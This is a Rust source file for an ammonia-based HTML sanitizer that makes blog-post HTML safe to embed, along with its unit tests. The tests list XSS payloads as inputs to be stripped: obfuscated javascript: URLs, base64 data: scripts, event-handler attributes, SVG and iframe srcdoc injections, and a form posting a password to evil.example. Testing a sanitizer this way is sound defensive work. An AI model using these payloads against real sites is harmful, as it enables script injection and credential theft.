//! `html(sanitize: true)`: a copy of a post's HTML that is safe for other sites to embed.
//!
//! The input is comrak output (GFM, class-based syntax highlighting, alerts, footnotes,
//! math) plus whatever raw HTML the author wrote. Cleaning happens in two steps:
//!
//! 1. [`ammonia`] parses the HTML with html5ever and keeps only an allow-list of tags and
//!    attributes (see [`Sanitizer::new`] for the list). Its attribute filter additionally
//!    checks every URL-bearing attribute (`href`, `src`, `cite`): only `http`, `https`,
//!    `mailto` (links only) and relative URLs survive, and an `<iframe src>` survives only
//!    when it is `https` on one of [`SanitizePolicy::iframe_hosts`].
//! 2. A small rewriter walks ammonia's serialized output. That output is canonical
//!    html5ever serialization: attribute values are always double-quoted with `&`, `"`, `<`
//!    and `>` escaped, text has `&`, `<` and `>` escaped and comments are stripped, so
//!    outside `<iframe>` raw text every `<` starts a tag and every `>` ends one. The rewriter
//!    * adds `rel="noopener nofollow"` to links that leave the site (ammonia's own
//!      `link_rel` cannot look at the `href`, so it would mark every link);
//!    * removes an `<iframe>` whose `src` was rejected, start tag to end tag, and empties
//!      the raw-text fallback content of the iframes it keeps;
//!    * removes every `<input>` that is not a disabled checkbox (task lists).
//!
//! The rewriter only inserts one fixed attribute and deletes whole tags or iframe content,
//! so it cannot turn sanitized text into markup.

use crate::corpus::site_url::{parse_absolute, SiteUrl};
use crate::text::find_ignore_ascii_case;
use crate::text::html::StartTag;
use ammonia::Builder;
use std::borrow::Cow;
use std::fmt;
use url::Url;

/// The `rel` value put on links to other hosts.
const EXTERNAL_REL: &str = "noopener nofollow";

/// URL schemes allowed in `<a href>`.
const LINK_SCHEMES: &[&str] = &["http", "https", "mailto"];

/// URL schemes allowed in `src` (images) and `cite`.
const RESOURCE_SCHEMES: &[&str] = &["http", "https"];

/// Iframe hosts allowed by [`SanitizePolicy::default`].
const DEFAULT_IFRAME_HOSTS: &[&str] = &[
    "www.youtube.com",
    "youtube.com",
    "www.youtube-nocookie.com",
    "player.vimeo.com",
];

/// Features an embedded `<iframe allow="…">` may keep: playback and display only, what video
/// players ask for (YouTube's embed code asks for exactly these but `fullscreen`). Every other
/// feature (camera, microphone, geolocation, payment, clipboard-read, usb, …) is dropped, and
/// so is each kept feature's allowlist (`*`, origins), which leaves the default: the iframe's
/// own origin only.
pub const IFRAME_ALLOWED_FEATURES: &[&str] = &[
    "accelerometer",
    "autoplay",
    "clipboard-write",
    "encrypted-media",
    "fullscreen",
    "gyroscope",
    "picture-in-picture",
    "web-share",
];

/// What the sanitizer lets through beyond formatting.
#[derive(Debug, Clone)]
pub struct SanitizePolicy {
    /// Hosts whose iframes are kept (exact host match, e.g. "www.youtube.com"); default YouTube, youtube-nocookie and Vimeo player hosts.
    pub iframe_hosts: Vec<String>,
    /// The site (from `_config.yml` `url`), so links to it are not marked external; which
    /// links are the site's is [`SiteUrl::is_internal`]'s rule.
    pub site: SiteUrl,
}

impl Default for SanitizePolicy {
    /// `www.youtube.com`, `youtube.com`, `www.youtube-nocookie.com` and `player.vimeo.com`
    /// iframes; no site url, so every absolute `http(s)` link counts as external (but those
    /// to a local development server, see [`SiteUrl::is_internal`]).
    fn default() -> Self {
        Self {
            iframe_hosts: DEFAULT_IFRAME_HOSTS
                .iter()
                .map(|h| (*h).to_owned())
                .collect(),
            site: SiteUrl::default(),
        }
    }
}

/// A sanitizer built once from a policy (build the ammonia::Builder once and reuse it).
///
/// It is `Send + Sync`, so one instance can be shared by every request.
pub struct Sanitizer {
    /// The configured ammonia builder; configuration never changes after [`Sanitizer::new`].
    builder: Builder<'static>,
    /// The site whose links are not marked external.
    site: SiteUrl,
}

impl fmt::Debug for Sanitizer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Sanitizer")
            .field("site", &self.site)
            .finish_non_exhaustive()
    }
}

impl Sanitizer {
    /// Builds the sanitizer for `policy`.
    ///
    /// Kept, on top of ammonia's default formatting tags (`p`, `em`, `strong`, `del`,
    /// `mark`, `kbd`, `sup`, `sub`, lists, tables, `blockquote`, `figure`, `figcaption`,
    /// `details`, `summary`, `dl`/`dt`/`dd`, `img`, ...):
    ///
    /// * `<section>`, `<iframe>` (allow-listed `src` only) and `<input>` (disabled
    ///   checkboxes only);
    /// * `id` on `h1`–`h6`, `a` and `li` (heading anchors, footnotes);
    /// * `class` on `code`, `pre`, `span`, `div`, `p`, `section`, `sup`, `a`, `li`, `ul`,
    ///   `ol` and `input` (highlighting, alerts, footnotes, task lists); any class name is
    ///   allowed because syntect emits an open-ended set of them;
    /// * `data-footnote*`, `data-math-style`, `aria-*`, `title` and `lang` anywhere;
    /// * `img` `src`/`alt`/`title`/`width`/`height`, table-cell `align`, `details open`,
    ///   `ol start`, iframe `src`/`width`/`height`/`title`/`allow` (only the
    ///   [`IFRAME_ALLOWED_FEATURES`])/`allowfullscreen`/`frameborder`/`loading`, input
    ///   `type="checkbox"`/`checked`/`disabled`.
    ///
    /// Removed: `<script>`, `<style>`, `<template>`, `<object>`, `<embed>`, `<applet>`,
    /// `<noscript>`, `<svg>` and `<math>` with their content; every other tag (forms,
    /// `<base>`, `<meta>`, `<link>`, ...) is unwrapped, its text kept; every other
    /// attribute (`style`, `on*`, `srcdoc`, `rel`, `target`, ...) is dropped.
    pub fn new(policy: SanitizePolicy) -> Self {
        let iframe_hosts: Vec<String> = policy
            .iframe_hosts
            .iter()
            .map(|h| normalize_host(h))
            .filter(|h| !h.is_empty())
            .collect();

        let mut builder = Builder::default();
        builder
            .add_tags(["section", "iframe", "input"])
            // Already: `script`, `style`.
            .add_clean_content_tags([
                "template", "object", "embed", "applet", "noscript", "svg", "math",
            ])
            .url_schemes(LINK_SCHEMES.iter().copied().collect())
            .url_relative(ammonia::UrlRelative::PassThrough)
            // `rel` is added by `mark_external_links`, only where the link leaves the site.
            .link_rel(None)
            .strip_comments(true)
            .add_generic_attributes(["data-math-style"])
            .add_generic_attribute_prefixes(["data-footnote", "aria-"])
            .add_tag_attributes("img", ["title", "loading"])
            .add_tag_attributes("details", ["open"])
            .add_tag_attributes(
                "iframe",
                [
                    "src",
                    "width",
                    "height",
                    "title",
                    "allow",
                    "allowfullscreen",
                    "frameborder",
                    "loading",
                ],
            )
            .add_tag_attributes("input", ["checked", "disabled", "class"])
            .add_tag_attribute_values("input", "type", ["checkbox"]);
        for tag in ["h1", "h2", "h3", "h4", "h5", "h6"] {
            builder.add_tag_attributes(tag, ["id"]);
        }
        for tag in ["a", "li"] {
            builder.add_tag_attributes(tag, ["id", "class"]);
        }
        for tag in [
            "code", "pre", "span", "div", "p", "section", "sup", "ul", "ol",
        ] {
            builder.add_tag_attributes(tag, ["class"]);
        }
        builder.attribute_filter(move |element, attribute, value| {
            filter_attribute(&iframe_hosts, element, attribute, value)
        });

        Self {
            builder,
            site: policy.site,
        }
    }

    /// Returns a sanitized copy of `html`, safe to embed in another site's page.
    pub fn clean(&self, html: &str) -> String {
        // Keeps html5ever linear: deep nesting unwrapped, long `&` text broken up.
        let (bounded, _) = super::html_bounds::bound_for_parser(html);
        let cleaned = self.builder.clean(&bounded).to_string();
        self.rewrite(&cleaned)
    }

    /// Second pass over ammonia's canonical output (see the module docs).
    fn rewrite(&self, cleaned: &str) -> String {
        let mut out = String::with_capacity(cleaned.len() + 64);
        let mut rest = cleaned;
        while let Some(lt) = rest.find('<') {
            out.push_str(&rest[..lt]);
            rest = &rest[lt..];
            let Some(gt) = rest.find('>') else {
                // Cannot happen with html5ever output; drop the fragment rather than guess.
                return out;
            };
            let tag = &rest[..=gt];
            rest = &rest[gt + 1..];
            let Some(start) = StartTag::parse(tag) else {
                out.push_str(tag);
                continue;
            };
            match start.name {
                "a" => {
                    out.push_str(&tag[..tag.len() - 1]);
                    if start
                        .attr("href")
                        .is_some_and(|href| is_external(&href, &self.site))
                    {
                        out.push_str(" rel=\"");
                        out.push_str(EXTERNAL_REL);
                        out.push('"');
                    }
                    out.push('>');
                }
                "iframe" => {
                    // The content is raw text (never rendered by browsers that support
                    // iframes): drop it, and the whole element when its src was rejected.
                    let Some(end) = find_ignore_ascii_case(rest, "</iframe>") else {
                        return out;
                    };
                    rest = &rest[end + "</iframe>".len()..];
                    if start.attr("src").is_some() {
                        out.push_str(tag);
                        out.push_str("</iframe>");
                    }
                }
                "input" => {
                    let checkbox = start
                        .attr("type")
                        .is_some_and(|t| t.eq_ignore_ascii_case("checkbox"));
                    if checkbox && start.has("disabled") {
                        out.push_str(tag);
                    }
                }
                _ => out.push_str(tag),
            }
        }
        out.push_str(rest);
        out
    }
}

/// Ammonia attribute filter: attribute-name sanity and URL checks.
fn filter_attribute<'u>(
    iframe_hosts: &[String],
    element: &str,
    attribute: &str,
    value: &'u str,
) -> Option<Cow<'u, str>> {
    // Only plain names: prefix-allowed names (`aria-`, `data-footnote`) could otherwise
    // carry characters such as `"` that html5ever accepts in attribute names.
    if attribute.is_empty()
        || !attribute
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    {
        return None;
    }
    if (element, attribute) == ("iframe", "allow") {
        return allowed_iframe_features(value).map(Cow::Owned);
    }
    let keep = match (element, attribute) {
        ("iframe", "src") => is_allowed_iframe_src(value, iframe_hosts),
        ("a", "href") => is_safe_url(value, LINK_SCHEMES),
        (_, "href" | "src" | "cite") => is_safe_url(value, RESOURCE_SCHEMES),
        _ => true,
    };
    keep.then_some(Cow::Borrowed(value))
}

/// An iframe's `allow` value (a permissions policy: `feature [allowlist]; …`) reduced to
/// the [`IFRAME_ALLOWED_FEATURES`] it names, without allowlists; `None` when none is left.
fn allowed_iframe_features(value: &str) -> Option<String> {
    let mut kept: Vec<&str> = Vec::new();
    for directive in value.split([';', ',']) {
        let Some(feature) = directive.split_whitespace().next() else {
            continue;
        };
        if let Some(allowed) = IFRAME_ALLOWED_FEATURES
            .iter()
            .find(|f| f.eq_ignore_ascii_case(feature))
        {
            if !kept.contains(allowed) {
                kept.push(allowed);
            }
        }
    }
    (!kept.is_empty()).then(|| kept.join("; "))
}

/// Lowercases an iframe host, strips surrounding whitespace and a trailing dot; accepts a
/// full URL too (`https://embed.example.com/` → `embed.example.com`).
fn normalize_host(host: &str) -> String {
    let host = host.trim();
    let host = if host.contains("://") {
        Url::parse(host)
            .ok()
            .and_then(|u| u.host_str().map(str::to_owned))
            .unwrap_or_default()
    } else {
        host.to_owned()
    };
    host.trim_end_matches('.').to_ascii_lowercase()
}

/// The URL as a browser reads it: surrounding whitespace/control characters trimmed and
/// tabs and newlines inside removed.
fn browser_view(url: &str) -> String {
    url.trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect()
}

/// `true` for relative references and absolute URLs whose scheme is in `schemes`.
///
/// A `:` before the first `/`, `?` or `#` means a scheme; if the text before it is not a
/// valid, allowed scheme the URL is rejected (a relative reference may not have a colon in
/// its first segment, so nothing legitimate is lost).
fn is_safe_url(url: &str, schemes: &[&str]) -> bool {
    let url = browser_view(url);
    let first_segment_end = url.find(['/', '?', '#']).unwrap_or(url.len());
    let Some(colon) = url[..first_segment_end].find(':') else {
        return true;
    };
    let scheme = &url[..colon];
    let valid = scheme
        .bytes()
        .next()
        .is_some_and(|b| b.is_ascii_alphabetic())
        && scheme
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'));
    valid && schemes.iter().any(|s| scheme.eq_ignore_ascii_case(s))
}

/// `true` when `src` is an `https` URL on an allow-listed host (exact match, default port).
fn is_allowed_iframe_src(src: &str, hosts: &[String]) -> bool {
    let Ok(url) = Url::parse(&browser_view(src)) else {
        return false;
    };
    url.scheme() == "https"
        && url.port().is_none()
        && url
            .host_str()
            .is_some_and(|host| hosts.iter().any(|allowed| allowed == host))
}

/// `true` for absolute `http(s)` links (or scheme-relative `//host` ones) that are not the
/// site's ([`SiteUrl::is_internal`]).
fn is_external(href: &str, site: &SiteUrl) -> bool {
    // Browsers treat `\` like `/` in http(s) URLs, so `/\evil.example` is `//evil.example`.
    let href = browser_view(href).replace('\\', "/");
    let Some(url) = parse_absolute(&href) else {
        return false; // relative path or fragment
    };
    matches!(url.scheme(), "http" | "https") && !site.is_internal(&url)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> String {
        Sanitizer::new(SanitizePolicy::default()).clean(html)
    }

    fn clean_for_site(html: &str, site: &str) -> String {
        Sanitizer::new(SanitizePolicy {
            site: SiteUrl::new(Some(site), ""),
            ..SanitizePolicy::default()
        })
        .clean(html)
    }

    /// Asserts that `html` comes out unchanged.
    #[track_caller]
    fn assert_kept(html: &str) {
        assert_eq!(clean(html), html);
    }

    #[test]
    fn sanitizer_is_send_and_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<Sanitizer>();
    }

    #[test]
    fn default_policy_allows_video_hosts() {
        let policy = SanitizePolicy::default();
        assert_eq!(
            policy.iframe_hosts,
            [
                "www.youtube.com",
                "youtube.com",
                "www.youtube-nocookie.com",
                "player.vimeo.com"
            ]
        );
        assert_eq!(policy.site, SiteUrl::default());
    }

    #[test]
    fn keeps_heading_ids_and_anchor_links() {
        assert_kept(
            "<h2 id=\"some-heading\"><a href=\"#some-heading\" aria-hidden=\"true\" class=\"anchor\" id=\"some-heading-anchor\"></a>Some heading</h2>",
        );
        for level in 1..=6 {
            assert_kept(&format!("<h{level} id=\"h{level}\">H</h{level}>"));
        }
    }

    #[test]
    fn keeps_highlighted_code() {
        assert_kept(
            "<pre class=\"syntax-highlighting\"><code class=\"language-rust\"><span class=\"source rust\"><span class=\"storage type function rust\">fn</span> main() {}</span></code></pre>",
        );
        assert_kept("<p>Run <code>cargo test</code> now</p>");
    }

    #[test]
    fn keeps_tables_with_alignment() {
        assert_kept(
            "<table><thead><tr><th align=\"left\">a</th><th align=\"center\">b</th><th align=\"right\">c</th></tr></thead><tbody><tr><td align=\"left\">1</td><td align=\"center\">2</td><td align=\"right\">3</td></tr></tbody></table>",
        );
    }

    #[test]
    fn keeps_footnotes() {
        assert_kept(
            "<p>Claim<sup class=\"footnote-ref\"><a href=\"#fn-1\" id=\"fnref-1\" data-footnote-ref=\"\">1</a></sup></p>",
        );
        assert_kept(
            "<section class=\"footnotes\" data-footnotes=\"\"><ol><li id=\"fn-1\"><p>The note. <a href=\"#fnref-1\" class=\"footnote-backref\" data-footnote-backref=\"\" data-footnote-backref-idx=\"1\" aria-label=\"Back to reference 1\">↩</a></p></li></ol></section>",
        );
        // comrak writes boolean attributes bare; html5ever serializes them with `=""`.
        assert_eq!(
            clean("<sup class=\"footnote-ref\"><a href=\"#fn-1\" id=\"fnref-1\" data-footnote-ref>1</a></sup>"),
            "<sup class=\"footnote-ref\"><a href=\"#fn-1\" id=\"fnref-1\" data-footnote-ref=\"\">1</a></sup>"
        );
    }

    #[test]
    fn keeps_disabled_task_list_checkboxes() {
        assert_eq!(
            clean("<ul><li><input type=\"checkbox\" checked=\"\" disabled=\"\" /> done</li><li><input type=\"checkbox\" disabled=\"\" /> todo</li></ul>"),
            "<ul><li><input type=\"checkbox\" checked=\"\" disabled=\"\"> done</li><li><input type=\"checkbox\" disabled=\"\"> todo</li></ul>"
        );
        assert_kept(
            "<ul class=\"contains-task-list\"><li class=\"task-list-item\"><input type=\"checkbox\" class=\"task-list-item-checkbox\" disabled=\"\"> x</li></ul>",
        );
    }

    #[test]
    fn keeps_alerts() {
        assert_kept(
            "<div class=\"markdown-alert markdown-alert-tip\"><p class=\"markdown-alert-title\">Tip</p><p>Use the index.</p></div>",
        );
    }

    #[test]
    fn keeps_math() {
        assert_kept("<p><span data-math-style=\"inline\">x^2</span></p>");
        assert_kept("<p><span data-math-style=\"display\">\\sum_i x_i</span></p>");
    }

    #[test]
    fn keeps_images_and_figures() {
        assert_kept(
            "<figure><img src=\"/assets/map.png\" alt=\"A map\" title=\"The map\" width=\"640\" height=\"480\"><figcaption>A <em>map</em></figcaption></figure>",
        );
        assert_kept("<p><img src=\"https://cdn.example.org/a.jpg\" alt=\"a\"></p>");
    }

    #[test]
    fn keeps_inline_formatting_and_block_elements() {
        assert_kept(
            "<p><del>old</del> <mark>hot</mark> <kbd>Ctrl</kbd> x<sup>2</sup> H<sub>2</sub>O <strong>b</strong> <em>i</em></p>",
        );
        assert_kept("<details open=\"\"><summary>More</summary><p>Hidden</p></details>");
        assert_kept("<dl><dt>Term</dt><dd>Definition</dd></dl>");
        assert_kept("<blockquote><p>Quote</p></blockquote><hr><ol start=\"3\"><li>three</li></ol>");
    }

    #[test]
    fn keeps_safe_link_urls() {
        for href in [
            "https://example.org/a?b=c#d",
            "http://example.org/",
            "mailto:me@example.org",
            "/about/",
            "../up.html",
            "page.html",
            "#section",
            "?page=2",
        ] {
            let html = format!("<a href=\"{href}\">x</a>");
            let out = clean_for_site(&html, "example.org");
            assert_eq!(out, html, "{href}");
        }
        // Query strings stay escaped.
        assert_kept("<a href=\"/search?q=a&amp;page=2\">s</a>");
    }

    #[test]
    fn removes_scripts_and_styles_with_their_content() {
        assert_eq!(
            clean("<p>a</p><script>alert(1)</script><p>b</p>"),
            "<p>a</p><p>b</p>"
        );
        assert_eq!(
            clean("<style>body{display:none}</style><p>b</p>"),
            "<p>b</p>"
        );
        assert_eq!(clean("<p style=\"color:red\">b</p>"), "<p>b</p>");
        assert_eq!(
            clean("<template><img src=x onerror=alert(1)></template>ok"),
            "ok"
        );
    }

    #[test]
    fn removes_event_handlers() {
        assert_eq!(
            clean("<img src=\"/a.png\" alt=\"a\" onerror=\"alert(1)\" onload=\"x()\">"),
            "<img src=\"/a.png\" alt=\"a\">"
        );
        assert_eq!(
            clean("<a href=\"#x\" onclick=\"evil()\" onmouseover=\"evil()\">x</a>"),
            "<a href=\"#x\">x</a>"
        );
        assert_eq!(
            clean("<details open ontoggle=alert(1)><summary>s</summary></details>"),
            "<details open=\"\"><summary>s</summary></details>"
        );
    }

    #[test]
    fn removes_dangerous_urls() {
        for url in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "jav\tascript:alert(1)",
            "jav\nascript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/png;base64,iVBORw0KGgo=",
            "`javascript:alert(1)",
            "java\0script:alert(1)",
        ] {
            let escaped = url.replace('"', "&quot;");
            assert_eq!(
                clean(&format!("<a href=\"{escaped}\">x</a>")),
                "<a>x</a>",
                "{url:?}"
            );
            assert_eq!(
                clean(&format!("<img src=\"{escaped}\" alt=\"i\">")),
                "<img alt=\"i\">",
                "{url:?}"
            );
        }
        assert_eq!(
            clean("<a href=\"&#106;avascript:alert(1)\">x</a>"),
            "<a>x</a>"
        );
        assert_eq!(
            clean("<blockquote cite=\"javascript:alert(1)\">q</blockquote>"),
            "<blockquote>q</blockquote>"
        );
        assert_eq!(
            clean("<img src=\"mailto:a@example.org\" alt=\"i\">"),
            "<img alt=\"i\">"
        );
    }

    #[test]
    fn removes_forms_and_non_checkbox_inputs() {
        assert_eq!(
            clean("<form action=\"https://evil.example/steal\" method=\"post\"><input type=\"text\" name=\"pw\"><input type=\"password\"><input type=\"submit\" value=\"Go\"><button>Send</button><textarea>t</textarea></form>"),
            "Sendt"
        );
        // An enabled checkbox is author HTML, not a task list item.
        assert_eq!(clean("<input type=\"checkbox\" checked>x"), "x");
        assert_eq!(
            clean("<input type=\"image\" src=\"/a.png\" disabled>x"),
            "x"
        );
        assert_eq!(clean("<input disabled>x"), "x");
    }

    #[test]
    fn removes_embedding_and_document_level_tags() {
        assert_eq!(
            clean("<object data=\"https://evil.example/x.swf\"><param name=a value=b>fallback</object>ok"),
            "ok"
        );
        assert_eq!(clean("<embed src=\"https://evil.example/x.swf\">ok"), "ok");
        assert_eq!(clean("<base href=\"https://evil.example/\">ok"), "ok");
        assert_eq!(
            clean("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">ok"),
            "ok"
        );
        assert_eq!(
            clean("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">ok"),
            "ok"
        );
        assert_eq!(
            clean("<svg onload=alert(1)><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\">x</a></svg>ok"),
            "ok"
        );
        assert_eq!(
            clean("<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>ok"),
            "ok"
        );
        assert_eq!(clean("<!-- comment --><p>ok</p>"), "<p>ok</p>");
    }

    #[test]
    fn keeps_allow_listed_iframes() {
        assert_kept(
            "<figure><iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" width=\"560\" height=\"315\" title=\"Video\" allow=\"accelerometer; autoplay; encrypted-media\" allowfullscreen=\"\" frameborder=\"0\" loading=\"lazy\"></iframe></figure>",
        );
        assert_kept("<iframe src=\"https://www.youtube-nocookie.com/embed/x\"></iframe>");
        assert_kept("<iframe src=\"https://player.vimeo.com/video/1\"></iframe>");
        // Other attributes and the (never rendered) fallback content go.
        assert_eq!(
            clean("<iframe src=\"https://www.youtube.com/embed/x\" srcdoc=\"<script>alert(1)</script>\" onload=\"alert(1)\" style=\"x\" sandbox=\"\"><script>alert(1)</script>fallback</iframe>"),
            "<iframe src=\"https://www.youtube.com/embed/x\"></iframe>"
        );
    }

    #[test]
    fn iframe_allow_keeps_only_harmless_features() {
        assert_eq!(
            clean("<iframe src=\"https://www.youtube.com/embed/x\" allow=\"camera; microphone; clipboard-read; payment\"></iframe>"),
            "<iframe src=\"https://www.youtube.com/embed/x\"></iframe>"
        );
        assert_eq!(
            clean("<iframe src=\"https://www.youtube.com/embed/x\" allow=\"accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share\"></iframe>"),
            "<iframe src=\"https://www.youtube.com/embed/x\" allow=\"accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share\"></iframe>"
        );
        assert_eq!(
            clean("<iframe src=\"https://player.vimeo.com/video/1\" allow=\"Fullscreen *; geolocation 'self'; autoplay https://evil.example; usb\"></iframe>"),
            "<iframe src=\"https://player.vimeo.com/video/1\" allow=\"fullscreen; autoplay\"></iframe>"
        );
    }

    #[test]
    fn removes_other_iframes_entirely() {
        for src in [
            "https://evil.example/embed",
            "http://www.youtube.com/embed/x",
            "https://www.youtube.com.evil.example/embed",
            "https://evilwww.youtube.com/embed",
            "https://www.youtube.com:8443/embed",
            "//www.youtube.com/embed/x",
            "/embed/x",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
        ] {
            let html = format!("<p>a</p><iframe src=\"{src}\" width=\"1\"></iframe><p>b</p>");
            assert_eq!(clean(&html), "<p>a</p><p>b</p>", "{src}");
        }
        assert_eq!(
            clean("<iframe srcdoc=\"<script>x</script>\"></iframe>ok"),
            "ok"
        );
        assert_eq!(
            clean("<IFRAME SRC=\"https://evil.example/\">t</IFRAME>ok"),
            "ok"
        );
        // An unclosed iframe swallows the rest of the document as raw text: all of it goes.
        assert_eq!(
            clean("<p>a</p><iframe src=\"https://evil.example/\"><p>b</p>"),
            "<p>a</p>"
        );
    }

    #[test]
    fn iframe_allow_list_is_configurable() {
        let sanitizer = Sanitizer::new(SanitizePolicy {
            iframe_hosts: vec!["Embed.Example.org".to_owned()],
            site: SiteUrl::default(),
        });
        assert_eq!(
            sanitizer.clean("<iframe src=\"https://embed.example.org/v/1\"></iframe>"),
            "<iframe src=\"https://embed.example.org/v/1\"></iframe>"
        );
        assert_eq!(
            sanitizer.clean("<iframe src=\"https://www.youtube.com/embed/x\"></iframe>"),
            ""
        );
    }

    #[test]
    fn marks_only_external_links() {
        let html = "<p><a href=\"https://other.example/x\">o</a> <a href=\"https://blog.example.com/post/\">i</a> <a href=\"/about/\">r</a> <a href=\"#top\">f</a> <a href=\"mailto:me@blog.example.com\">m</a> <a href=\"//cdn.example/x\">s</a> <a href=\"HTTP://BLOG.EXAMPLE.COM/\">u</a> <a>n</a></p>";
        assert_eq!(
            clean_for_site(html, "blog.example.com"),
            "<p><a href=\"https://other.example/x\" rel=\"noopener nofollow\">o</a> <a href=\"https://blog.example.com/post/\">i</a> <a href=\"/about/\">r</a> <a href=\"#top\">f</a> <a href=\"mailto:me@blog.example.com\">m</a> <a href=\"//cdn.example/x\" rel=\"noopener nofollow\">s</a> <a href=\"HTTP://BLOG.EXAMPLE.COM/\">u</a> <a>n</a></p>"
        );
    }

    #[test]
    fn without_site_host_every_absolute_link_is_external() {
        assert_eq!(
            clean("<a href=\"https://blog.example.com/\">i</a><a href=\"/about/\">r</a>"),
            "<a href=\"https://blog.example.com/\" rel=\"noopener nofollow\">i</a><a href=\"/about/\">r</a>"
        );
    }

    #[test]
    fn site_host_may_be_given_as_url() {
        assert_eq!(
            clean_for_site(
                "<a href=\"https://blog.example.com/x\">i</a>",
                "https://Blog.Example.com/"
            ),
            "<a href=\"https://blog.example.com/x\">i</a>"
        );
    }

    #[test]
    fn author_rel_and_target_are_replaced() {
        assert_eq!(
            clean_for_site(
                "<a href=\"https://other.example/\" rel=\"opener\" target=\"_blank\">o</a><a href=\"/x\" rel=\"me\">i</a>",
                "blog.example.com"
            ),
            "<a href=\"https://other.example/\" rel=\"noopener nofollow\">o</a><a href=\"/x\">i</a>"
        );
    }

    #[test]
    fn backslash_links_count_as_external() {
        assert_eq!(
            clean_for_site("<a href=\"/\\evil.example/\">x</a>", "blog.example.com"),
            "<a href=\"/\\evil.example/\" rel=\"noopener nofollow\">x</a>"
        );
    }

    #[test]
    fn rewriter_leaves_escaped_text_alone() {
        assert_kept("<p>&lt;a href=\"https://x.example/\"&gt; &amp; &lt;iframe&gt;</p>");
        assert_kept("<a href=\"/x\" title=\"a &quot;quoted&quot; &gt; title\">t</a>");
    }

    #[test]
    fn cleaning_is_idempotent() {
        let html = "<h2 id=\"a\">A</h2><p><a href=\"https://other.example/\">o</a></p><iframe src=\"https://www.youtube.com/embed/x\">fallback</iframe><ul><li><input type=\"checkbox\" disabled> t</li></ul><script>x</script>";
        let once = clean(html);
        assert_eq!(clean(&once), once);
    }
}
